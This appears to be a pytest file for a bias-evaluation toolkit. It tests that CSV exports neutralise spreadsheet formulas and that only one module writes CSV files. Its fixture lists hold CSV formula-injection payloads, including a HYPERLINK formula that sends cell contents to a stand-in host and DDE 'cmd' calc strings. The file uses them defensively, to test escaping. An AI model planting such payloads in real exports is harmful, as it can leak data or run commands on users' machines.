"""CSV files: no cell is a formula, and no other module writes such files."""

import csv
import io
import math
import re
from pathlib import Path

import pandas as pd
import pytest

from evenhand.evaluation import columns
from evenhand.evaluation.csv_files import csv_text
from evenhand.evaluation.data.readers.response_files import write_prompt_table
from evenhand.evaluation.errors import InputError
from evenhand.evaluation.score import BiasScore, write_scores

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", " \t=1", "'=1"]
ROOT = Path(__file__).resolve().parents[2]


def cells(text):
    return [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_and_no_heading_is_a_formula(formula, tmp_path):
    write_scores(tmp_path / "scores.json", [BiasScore("scgb", 0.1, 0.0, (0.0, 1.0), n=1, group={formula: formula})])
    for text in (
        csv_text(["a", formula], [{"a": formula, formula: -0.5}]),
        (tmp_path / "scores.csv").read_text(encoding="utf-8"),
    ):
        found = cells(text)
        assert f"'{formula}" in found
        assert not [cell for cell in found if re.match(r"\s*[=+@]|\s*-\D|-1\+", cell)]


def test_values_come_back_as_they_were():
    values = {
        "text": 'a "b",\r c\n',
        "number": 1 / 3,
        "negative": -0.5,
        "text of a number": "-0.5",
        "undefined": math.nan,
    }
    header, *rows = csv.reader(io.StringIO(csv_text([*values, "absent"], [values]), newline=""))
    assert header == [*values, "absent"]
    assert rows == [[values["text"], repr(1 / 3), "-0.5", "-0.5", "", ""]]


def test_a_prompt_is_written_as_it_is_sent_or_not_at_all(tmp_path):
    prompts = pd.DataFrame(
        {columns.PROMPT_ID: ["1", "2"], columns.TEXT: ["Hi\u200b, a = b", "- a list"], columns.PERSONA: ""}
    )
    write_prompt_table(tmp_path / "p.csv", prompts[:1], "", "")
    assert "Hi\u200b, a = b" in cells((tmp_path / "p.csv").read_text(encoding="utf-8"))
    with pytest.raises(InputError, match=r"^write_prompts: .*'- a list'.*\.parquet"):
        write_prompt_table(tmp_path / "p.csv", prompts, "", "")


def test_one_module_writes_csv():
    writers = re.compile(r"\.to_csv\(|csv\.(writer|DictWriter)\(|\.write_csv\(|csv\.CSVWriter|\.to_excel\(")
    files = [file for folder in ("evaluation", "mitigation", "recipes") for file in (ROOT / folder).rglob("*.py")]
    assert len(files) > 100
    found = {file.relative_to(ROOT).as_posix() for file in files if writers.search(file.read_text(encoding="utf-8"))}
    assert found == {"evaluation/csv_files.py"}
    unguarded = {file.name for file in files if "unguarded_csv(" in file.read_text(encoding="utf-8")}
    assert unguarded == {"csv_files.py", "table_files.py"}  # the second reads the text again, and writes no file


@pytest.mark.parametrize("evil", ["x;=cmd|' /C calc'!A0", "x;\t=1+1", "x\n=1+1", "x;@SUM(1)", "x;-2+3", "＝1+1"])
def test_no_cell_is_a_formula_where_a_semicolon_separates_cells(evil):
    """Spreadsheets whose decimal sign is the comma begin a cell at a semicolon, and read no quotes within one."""
    text = csv_text(["a", "b"], [{"a": 1.5, "b": evil}])
    found = [cell for line in text.splitlines() for cell in re.split("[;\t]", line)]
    assert not [cell for cell in found if re.match(r'[\s"]*(?:[=+@＝]|-\S)', cell)]
